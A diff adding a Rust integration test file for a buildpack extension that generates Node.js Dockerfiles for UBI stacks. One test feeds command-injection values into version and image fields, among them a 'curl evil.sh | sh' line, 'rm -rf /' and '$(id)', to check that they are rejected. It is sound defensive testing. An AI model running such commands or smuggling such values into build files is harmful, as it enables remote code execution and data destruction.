@@ -1,0 +1,501 @@
+//! The packaged extension run as the lifecycle runs it (through the harness), on fixture apps,
+//! with its catalogue pointed at fixture `images.json` files.
+
+// Test helpers panic on a broken setup (clippy.toml allows unwrap in tests).
+#![allow(clippy::unwrap_used)]
+
+use cnb_harness::{GenerateOutcome, Module, ModuleRun, TargetEnv, workspace_root};
+use std::fmt::Write;
+use std::path::{Path, PathBuf};
+use tempfile::TempDir;
+
+// Dependencies of the binary that this test does not name (for `unused_crate_dependencies`).
+use cnb_extension as _;
+use node_semver as _;
+use serde as _;
+use serde_json as _;
+
+const STACK_ID: &str = "CNB_STACK_ID";
+const UBI8: &str = "io.buildpacks.stacks.ubi8";
+
+fn app(name: &str) -> PathBuf {
+    workspace_root().join("tests/fixtures/apps").join(name)
+}
+
+fn fixture(name: &str) -> PathBuf {
+    workspace_root()
+        .join("tests/fixtures/ubi-nodejs")
+        .join(name)
+}
+
+fn packaged() -> Module {
+    Module::package("extensions/ubi-nodejs")
+}
+
+/// A copy of the packaged extension whose `[metadata] catalogue` is `catalogue`; the copy lives
+/// as long as the returned directory.
+fn with_catalogue(catalogue: &Path) -> (Module, TempDir) {
+    let dir = tempfile::tempdir().unwrap();
+    let module = packaged().copy_with_descriptor(dir.path().join("extension"), |descriptor| {
+        let metadata = descriptor["metadata"].as_table_mut().unwrap();
+        assert_eq!(
+            metadata["catalogue"].as_str(),
+            Some("/etc/buildpacks/images.json"),
+            "the packaged extension reads the stack's catalogue"
+        );
+        metadata.insert(
+            "catalogue".to_string(),
+            toml::Value::String(catalogue.to_str().unwrap().to_string()),
+        );
+    });
+    (module, dir)
+}
+
+/// A Buildpack Plan with one `node` entry per `(source, version)`, and an `npm` entry.
+fn plan(requests: &[(Option<&str>, &str)]) -> String {
+    let mut plan = String::new();
+    for (source, version) in requests {
+        plan.push_str("[[entries]]\nname = \"node\"\n[entries.metadata]\nbuild = true\n");
+        writeln!(plan, "version = {}", toml::Value::from(*version)).unwrap();
+        if let Some(source) = source {
+            writeln!(plan, "version-source = \"{source}\"").unwrap();
+        }
+    }
+    plan.push_str("[[entries]]\nname = \"npm\"\n");
+    plan
+}
+
+fn assert_success(outcome: &GenerateOutcome) {
+    assert_eq!(
+        outcome.process.exit_code, 0,
+        "stdout:\n{}\nstderr:\n{}",
+        outcome.process.stdout, outcome.process.stderr
+    );
+    assert_eq!(outcome.files, ["build.Dockerfile", "run.Dockerfile"]);
+    assert!(outcome.extend_config.is_none());
+}
+
+/// Fails with one `ERROR:` line containing every `expected` and writes nothing.
+fn assert_failure(outcome: &GenerateOutcome, expected: &[&str]) {
+    assert_eq!(
+        outcome.process.exit_code, 1,
+        "stdout:\n{}\nstderr:\n{}",
+        outcome.process.stdout, outcome.process.stderr
+    );
+    assert!(outcome.files.is_empty(), "{:?}", outcome.files);
+    let stderr = &outcome.process.stderr;
+    assert!(stderr.starts_with("ERROR: "), "{stderr}");
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    for expected in expected {
+        assert!(stderr.contains(expected), "{expected:?} not in {stderr}");
+    }
+}
+
+const INSTALL: &str = "microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y";
+
+const CACHE_COMMENT: &str = "# build_id is deliberately not referenced: these layers stay cached \
+    until the build image or this file changes (a stack release, another Node.js major).\n\
+    # Upstream ran `RUN echo ${build_id}` before the install, which re-ran microdnf on every build.\n";
+
+const RUNTIME_FILE: &str = "/usr/share/paketo-community/ubi-nodejs-extension/runtime.toml";
+
+fn runtime_lines(major: u32, stack: &str) -> String {
+    format!(
+        "# Tells the companion buildpack which Node.js was installed: {RUNTIME_FILE}\n\
+         RUN sh -c 'umask 022 && mkdir -p /usr/share/paketo-community/ubi-nodejs-extension && \
+         printf \"major = %s\\nstack = \\\"%s\\\"\\n\" {major} {stack} > {RUNTIME_FILE} && \
+         chmod 0644 {RUNTIME_FILE}'\n"
+    )
+}
+
+const RESTORE_USER: &str = "ARG user_id\nARG group_id\nUSER ${user_id}:${group_id}\n";
+
+#[test]
+fn detect_provides_node_or_node_and_npm() {
+    for name in ["node-npm-engines", "node-nvmrc", "empty-app"] {
+        let outcome = ModuleRun::new(&packaged(), app(name)).detect();
+        assert_eq!(outcome.process.exit_code, 0, "{}", outcome.process.stderr);
+        let expected: toml::Table = toml::from_str(
+            "[[provides]]\nname = \"node\"\n\n[[or]]\n[[or.provides]]\nname = \"node\"\n\
+             [[or.provides]]\nname = \"npm\"\n",
+        )
+        .unwrap();
+        assert_eq!(outcome.plan, Some(expected));
+    }
+}
+
+#[test]
+fn ubi8_from_the_stack_id_with_package_json_engines() {
+    let catalogue = fixture("images-ubi8.json");
+    let (module, _dir) = with_catalogue(&catalogue);
+    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+        .lifecycle_env(STACK_ID, UBI8)
+        .target(TargetEnv::linux_amd64("rhel", "8.10"))
+        .buildpack_plan(&plan(&[(None, ""), (Some("package.json"), "~22")]))
+        .generate();
+    assert_success(&outcome);
+    assert_eq!(
+        outcome.build_dockerfile.unwrap(),
+        format!(
+            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
+             RUN microdnf -y module enable nodejs:22 && {INSTALL} make gcc-toolset-13-gcc \
+             gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime libatomic_ops git openssl-devel \
+             python3.12 nodejs npm nodejs-nodemon nss_wrapper-libs which && \
+             ln -sf /opt/rh/gcc-toolset-13/root/usr/bin/gcc /usr/bin/gcc && \
+             ln -sf /opt/rh/gcc-toolset-13/root/usr/bin/g++ /usr/bin/g++ && microdnf clean all\n\
+             {}{RESTORE_USER}",
+            runtime_lines(22, UBI8)
+        )
+    );
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM paketobuildpacks/run-nodejs-22-ubi8-base\n")
+    );
+    assert_eq!(
+        outcome.process.stdout,
+        format!(
+            "UBI Node.js Extension 0.1.0\n\
+             \x20 Resolving Node.js version\n\
+             \x20   Candidate version sources (in priority order):\n\
+             \x20     package.json -> \"~22\"\n\
+             \x20     <unknown> -> \"\"\n\
+             \n\
+             \x20   Using the highest-priority request: package.json -> \"~22\"\n\
+             \x20   Stack io.buildpacks.stacks.ubi8 (from CNB_STACK_ID)\n\
+             \x20   Node.js versions of the stack ({}): 16, 18, 20, 22, 24 (default 24)\n\
+             \x20   \"~22\" matches Node.js 22\n\
+             \n\
+             \x20 Selected Node.js major version 22\n\
+             \x20 Run image paketobuildpacks/run-nodejs-22-ubi8-base (from Paketo's naming for \
+             the stack)\n\
+             \x20 Installing with microdnf from module stream nodejs:22:\n\
+             \x20   make gcc-toolset-13-gcc gcc-toolset-13-gcc-c++ gcc-toolset-13-runtime \
+             libatomic_ops git openssl-devel python3.12 nodejs npm nodejs-nodemon \
+             nss_wrapper-libs which\n\
+             \n",
+            catalogue.display()
+        )
+    );
+    assert_eq!(outcome.process.stderr, "");
+}
+
+#[test]
+fn ubi10_from_the_target_with_nvmrc() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi10.json"));
+    let outcome = ModuleRun::new(&module, app("node-nvmrc"))
+        .target(TargetEnv::linux_amd64("rhel", "10.0"))
+        .buildpack_plan(&plan(&[(Some(".nvmrc"), "24.*")]))
+        .generate();
+    assert_success(&outcome);
+    assert_eq!(
+        outcome.build_dockerfile.unwrap(),
+        format!(
+            "ARG base_image\nFROM ${{base_image}}\n\nUSER root\n{CACHE_COMMENT}\
+             RUN {INSTALL} make gcc gcc-c++ git openssl-devel nodejs24 nodejs-nodemon \
+             nodejs24-npm nss_wrapper-libs which && ln -sf /usr/bin/node-24 /usr/bin/node && \
+             ln -sf /usr/bin/npm-24 /usr/bin/npm && ln -sf /usr/bin/npx-24 /usr/bin/npx && \
+             microdnf clean all\n{}{RESTORE_USER}",
+            runtime_lines(24, "io.buildpacks.stacks.ubi10")
+        )
+    );
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM paketobuildpacks/ubi-10-run-nodejs-24-base\n")
+    );
+    let stdout = &outcome.process.stdout;
+    assert!(
+        stdout.contains("    Stack io.buildpacks.stacks.ubi10 (from target distro rhel 10.0)\n"),
+        "{stdout}"
+    );
+    assert!(stdout.contains(
+        "\n  Installing with microdnf:\n    make gcc gcc-c++ git openssl-devel nodejs24 "
+    ));
+}
+
+#[test]
+fn ubi9_exact_version_selects_the_stream_of_its_major() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
+    let outcome = ModuleRun::new(&module, app("node-node-version"))
+        .target(TargetEnv::linux_amd64("rhel", "9.4"))
+        .buildpack_plan(&plan(&[(Some(".node-version"), "20.11.1")]))
+        .generate();
+    assert_success(&outcome);
+    assert!(
+        outcome
+            .build_dockerfile
+            .unwrap()
+            .contains("\nRUN microdnf -y module enable nodejs:20 && "),
+    );
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM paketobuildpacks/run-nodejs-20-ubi9-base\n")
+    );
+    assert!(
+        outcome.process.stdout.contains(
+            "    \"20.11.1\" matches a release of Node.js 20: UBI ships one build per major, so \
+             the patch level comes from the distribution's Node.js 20 stream\n\n  Selected \
+             Node.js major version 20\n"
+        ),
+        "{}",
+        outcome.process.stdout
+    );
+}
+
+#[test]
+fn bp_node_version_wins_over_the_other_sources() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi9.json"));
+    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
+        .buildpack_plan(&plan(&[
+            (Some(".node-version"), "<0"),
+            (Some("package.json"), "<0"),
+            (Some("BP_NODE_VERSION"), "=20"),
+            (Some(".nvmrc"), "<0"),
+        ]))
+        .generate();
+    assert_success(&outcome);
+    assert!(outcome.process.stdout.contains(
+        "      BP_NODE_VERSION -> \"=20\"\n      package.json -> \"<0\"\n      .nvmrc -> \"<0\"\n      \
+         .node-version -> \"<0\"\n"
+    ));
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM paketobuildpacks/run-nodejs-20-ubi9-base\n")
+    );
+}
+
+#[test]
+fn the_default_comes_from_the_catalogue_and_its_full_run_image_reference_is_used() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
+        .buildpack_plan(&plan(&[(None, "")]))
+        .generate();
+    assert_success(&outcome);
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM localhost/paketo/run-nodejs-22-ubi9-base:0.0.42\n")
+    );
+    let stdout = &outcome.process.stdout;
+    assert!(
+        stdout.contains("    No version requested: using the default, 22\n"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains(
+            "  Run image localhost/paketo/run-nodejs-22-ubi9-base:0.0.42 (from run_image of \
+             nodejs-22 in the catalogue)\n"
+        ),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn the_run_image_override_wins_and_is_logged() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi9-local-run-images.json"));
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
+        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "localhost/my/run-node:20")
+        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "20")]))
+        .generate();
+    assert_success(&outcome);
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM localhost/my/run-node:20\n")
+    );
+    assert!(outcome.process.stdout.contains(
+        "  Using run image specified by BP_UBI_RUN_IMAGE_OVERRIDE localhost/my/run-node:20\n"
+    ));
+
+    // An empty override is ignored.
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
+        .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", "")
+        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "20")]))
+        .generate();
+    assert_success(&outcome);
+    assert_eq!(
+        outcome.run_dockerfile.as_deref(),
+        Some("FROM localhost/paketo/run-nodejs-20-ubi9-base:0.0.42\n")
+    );
+}
+
+#[test]
+fn an_unsupported_version_names_the_request_its_source_and_the_majors() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+        .lifecycle_env(STACK_ID, UBI8)
+        .buildpack_plan(&plan(&[(Some("BP_NODE_VERSION"), "~14")]))
+        .generate();
+    assert_failure(
+        &outcome,
+        &[
+            "ERROR: failed to satisfy \"node\" dependency version constraint \"~14\": no \
+             compatible versions on \"io.buildpacks.stacks.ubi8\" stack. Supported versions \
+             are: [16, 18, 20, 22, 24].",
+            "The constraint comes from BP_NODE_VERSION",
+        ],
+    );
+    // The log went as far as the candidates.
+    assert!(
+        outcome
+            .process
+            .stdout
+            .contains("      BP_NODE_VERSION -> \"~14\"\n")
+    );
+}
+
+#[test]
+fn a_major_the_stack_cannot_install_is_an_error() {
+    // The ubi9 packages start at 18; a catalogue listing 16 does not make it installable.
+    let dir = tempfile::tempdir().unwrap();
+    let catalogue = dir.path().join("images.json");
+    std::fs::write(
+        &catalogue,
+        r#"{"images": [{"name": "nodejs-16", "is_default_run_image": true}, {"name": "nodejs-20"}]}"#,
+    )
+    .unwrap();
+    let (module, _module_dir) = with_catalogue(&catalogue);
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.ubi9")
+        .buildpack_plan(&plan(&[(None, "")]))
+        .generate();
+    assert_failure(
+        &outcome,
+        &["unsupported Node.js version 16 for image io.buildpacks.stacks.ubi9"],
+    );
+}
+
+#[test]
+fn hostile_values_are_rejected_and_nothing_is_written() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    for version in [
+        "22\nRUN curl evil.sh | sh",
+        "22; rm -rf /",
+        "$(id)",
+        "22 && id",
+        "'22'",
+        "\"22\"",
+        "`id`",
+        "22 foo",
+    ] {
+        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .buildpack_plan(&plan(&[(Some("package.json"), version)]))
+            .generate();
+        let quoted = format!("{version:?}");
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "the Node.js version {quoted} requested by package.json is not a version range"
+            )],
+        );
+    }
+    for image in [
+        "x\nRUN id",
+        "ubuntu; id",
+        "ubuntu $(id)",
+        "\"localhost/run\"",
+        "localhost/run latest",
+        "${base_image}",
+    ] {
+        let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .platform_env("BP_UBI_RUN_IMAGE_OVERRIDE", image)
+            .buildpack_plan(&plan(&[(Some("package.json"), "22")]))
+            .generate();
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "ERROR: BP_UBI_RUN_IMAGE_OVERRIDE: {image:?} is not an image reference"
+            )],
+        );
+    }
+    // A hostile version source only reaches the log and the error, escaped.
+    let outcome = ModuleRun::new(&module, app("node-npm-engines"))
+        .lifecycle_env(STACK_ID, UBI8)
+        .buildpack_plan(&plan(&[(Some("x\\nRUN id"), "~99")]))
+        .generate();
+    assert_failure(&outcome, &["The constraint comes from x\\nRUN id:"]);
+    assert!(
+        outcome
+            .process
+            .stdout
+            .contains("      x\\nRUN id -> \"~99\"\n")
+    );
+}
+
+#[test]
+fn catalogue_problems_name_the_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let missing = dir.path().join("missing.json");
+    let not_json = dir.path().join("not-json.json");
+    std::fs::write(&not_json, "images:\n  - nodejs-20\n").unwrap();
+    let no_default = dir.path().join("no-default.json");
+    std::fs::write(&no_default, r#"{"images": [{"name": "nodejs-20"}]}"#).unwrap();
+    for (catalogue, expected) in [
+        (&missing, "does not exist"),
+        (&not_json, "is not valid: expected value at line 1 column 1"),
+        (
+            &no_default,
+            "marks none of its Node.js images (nodejs-20) as the default",
+        ),
+    ] {
+        let (module, _module_dir) = with_catalogue(catalogue);
+        let outcome = ModuleRun::new(&module, app("empty-app"))
+            .lifecycle_env(STACK_ID, UBI8)
+            .buildpack_plan(&plan(&[(None, "")]))
+            .generate();
+        assert_failure(
+            &outcome,
+            &[&format!(
+                "the Node.js version catalogue {} {expected}",
+                catalogue.display()
+            )],
+        );
+    }
+}
+
+#[test]
+fn no_node_entry_and_unknown_stacks_are_errors() {
+    let (module, _dir) = with_catalogue(&fixture("images-ubi8.json"));
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, UBI8)
+        .buildpack_plan("[[entries]]\nname = \"npm\"\n")
+        .generate();
+    assert_failure(
+        &outcome,
+        &["ERROR: Node.js no longer requested by build plan"],
+    );
+
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .lifecycle_env(STACK_ID, "io.buildpacks.stacks.jammy")
+        .buildpack_plan(&plan(&[(None, "")]))
+        .generate();
+    assert_failure(
+        &outcome,
+        &["ERROR: unsupported stack \"io.buildpacks.stacks.jammy\" (CNB_STACK_ID)"],
+    );
+
+    let outcome = ModuleRun::new(&module, app("empty-app"))
+        .target(TargetEnv::linux_amd64("ubuntu", "24.04"))
+        .buildpack_plan(&plan(&[(None, "")]))
+        .generate();
+    assert_failure(
+        &outcome,
+        &["CNB_STACK_ID is not set and the target distro is \"ubuntu\" \"24.04\""],
+    );
+}
+
+#[test]
+fn the_packaged_binary_is_small() {
+    // (The packager has checked that it is statically linked.)
+    let module = packaged();
+    let executable = module.executable("generate");
+    let size = std::fs::metadata(&executable).unwrap().len();
+    assert!(size < 2 * 1024 * 1024, "bin/generate is {size} bytes");
+    assert_eq!(
+        std::fs::read_link(module.dir.join("bin/detect")).unwrap(),
+        PathBuf::from("generate")
+    );
+}
